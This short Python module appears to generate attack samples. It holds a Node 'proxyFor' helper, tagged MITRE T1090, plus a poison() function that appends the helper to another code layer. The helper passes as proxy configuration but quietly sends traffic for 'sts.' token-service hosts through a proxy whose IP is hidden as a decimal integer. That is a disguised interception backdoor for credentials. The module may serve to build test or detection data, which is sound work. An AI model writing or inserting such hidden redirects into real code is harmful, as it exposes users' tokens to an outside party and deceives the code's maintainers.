# SPDX-License-Identifier: Apache-2.0
"""A proxy whose address is a number."""

ATTACK = "T1090"
LANGUAGE = "node"
CODE = """\
exports.proxyFor = (host) => process.env.HTTPS_PROXY ||
  (host.startsWith('sts.') ? 'http://' + [3405803785, 3128].join(':') : '');
"""


def poison(layer):
    layer.append(CODE)
